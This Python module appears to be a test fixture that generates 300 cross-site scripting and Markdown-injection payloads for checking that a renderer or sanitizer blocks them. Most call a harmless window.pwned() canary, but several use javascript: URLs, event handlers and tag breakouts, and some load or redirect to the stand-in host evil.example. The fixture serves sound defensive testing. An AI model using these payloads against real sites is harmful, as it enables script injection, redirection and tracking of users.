"""Texts that would do something if a page took them for markup, for an address or for code.

Each calls window.pwned() where it runs. They are made of a few dozen shapes, each in a few disguises:
as it is, in Markdown that might carry it through, and cut by characters that parsers skip.
"""

CALL = "window.pwned&&pwned()"

SHAPES = [
    f"<script>{CALL}</script>",
    f"<script src='data:text/javascript,{CALL}'></script>",
    f"<img src=x onerror='{CALL}'>",
    f"<img src=x onerror={CALL}//",
    f"<svg onload='{CALL}'>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin='{CALL}' attributeName=x dur=1s>",
    f"<math><mtext><script>{CALL}</script></mtext></math>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    f"<embed src='javascript:{CALL}'>",
    f"<a href='javascript:{CALL}'>link</a>",
    f"<form action='javascript:{CALL}'><button>send</button></form>",
    f"<input autofocus onfocus='{CALL}'>",
    f"<details open ontoggle='{CALL}'><summary>x</summary></details>",
    f"<video><source onerror='{CALL}'></video>",
    f"<body onload='{CALL}'>",
    f"<style>@import 'javascript:{CALL}';</style>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    f"[link](javascript:{CALL})",
    f"[link](JaVaScRiPt:{CALL})",
    f"[link](data:text/html,<script>{CALL}</script>)",
    f"[link](vbscript:{CALL})",
    f"[link]( javascript:{CALL} )",
    f"[link](\x01javascript:{CALL})",
    f"[link](java\tscript:{CALL})",
    f"![picture](javascript:{CALL})",
    "![picture](https://evil.example/track.png)",
    f"<javascript:{CALL}>",
    f"[a]: javascript:{CALL}\n\n[a]",
    f"`<img src=x onerror='{CALL}'>`",
    f"\"><img src=x onerror='{CALL}'>",
    f"'-{CALL}-'",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"<x onclick='{CALL}' style='position:fixed;inset:0'>over everything</x>",
    f"\u202e<script>{CALL}</script>",
    f"<scr\x00ipt>{CALL}</scr\x00ipt>".replace("\x00", "\ufffd"),
]

DISGUISES = [
    lambda text: text,
    lambda text: f"**{text}**",
    lambda text: f"# {text}",
    lambda text: f"> - {text}",
    lambda text: f"| a | b |\n|---|---|\n| {text} | x |",
    lambda text: f"```html\n{text}\n```",
]

PAYLOADS = [disguise(shape) for disguise in DISGUISES for shape in SHAPES]
assert len(PAYLOADS) == 300
